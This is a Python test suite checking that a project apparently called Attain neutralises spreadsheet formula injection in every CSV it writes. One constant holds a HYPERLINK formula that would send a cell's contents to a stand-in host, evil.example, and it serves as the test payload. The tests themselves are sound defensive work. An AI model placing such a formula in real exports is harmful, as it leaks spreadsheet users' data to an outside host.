"""Every CSV Attain writes neutralises cells a spreadsheet would run as formulas (OWASP CSV
injection): a text cell starting with =, +, -, @, tab or carriage return gets a leading `'`;
numbers, and text that is exactly a number, stay as they are."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from attain.ingest.importer import import_files
from attain.reports.csv_safe import safe_cell, safe_frame, write_csv

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+1", "'+1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        (-12.5, -12.5),
        (7, 7),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_read_a_formula(
    value: object, written: object
) -> None:
    assert safe_cell(value) == written


def test_write_csv_round_trips_numbers_and_quotes_formulas() -> None:
    text = write_csv(
        [{"title": "+1+1", "amount": -12.5}, ("@SUM(A1)", "-12.5")], ["title", "amount"]
    )
    assert list(csv.reader(io.StringIO(text))) == [
        ["title", "amount"],
        ["'+1+1", "-12.5"],
        ["'@SUM(A1)", "-12.5"],
    ]


def test_a_frame_written_with_to_csv_keeps_its_numbers() -> None:
    frame = pd.DataFrame({"lead": ["=1+2", "L2"], "score": [-0.5, 0.25]})
    text = safe_frame(frame).to_csv(index=False)
    assert text.splitlines() == ["lead,score", "'=1+2,-0.5", "L2,0.25"]


def test_rejects_csv_neutralises_the_raw_crm_text_it_carries(
    con: duckdb.DuckDBPyConnection, write_csv: Callable[..., Path], tmp_path: Path
) -> None:
    write_csv("teams.csv", "team_id,name,manager_rep_id,region\nT1,East,,East")
    write_csv(
        "reps.csv",
        "rep_id,name,email,team_id,role,hire_date,end_date\n"
        f'R1,Ray,r@x.io,T1,rep,"{HOSTILE.replace(chr(34), chr(34) * 2)}",',
    )
    report = tmp_path / "rejects.csv"
    result = import_files(con, [tmp_path / "in"], rejects_path=report)
    assert result.rejects == 1
    with report.open() as handle:
        (reject,) = list(csv.DictReader(handle))
    assert (reject["column_name"], reject["value"]) == ("hire_date", "'" + HOSTILE)
    assert reject["row"] == "2"


# Files Attain writes for itself to read back (a CRM snapshot re-imported later, a table on its
# way into PostgreSQL), not exports a person opens: their text must stay what the CRM sent.
NOT_EXPORTS = {
    "ingest/connectors/snapshot.py",
    "ingest/connectors/salesforce.py",
    "store/dialects.py",
}


def test_every_csv_attain_writes_goes_through_csv_safe() -> None:
    source = Path(__file__).resolve().parents[2] / "src" / "attain"
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|COPY \(")
    offenders = [
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if path.name != "csv_safe.py"
        and str(path.relative_to(source)) not in NOT_EXPORTS
        and any(
            writers.search(line) and "safe_frame(" not in line
            for line in path.read_text().splitlines()
        )
    ]
    assert offenders == []
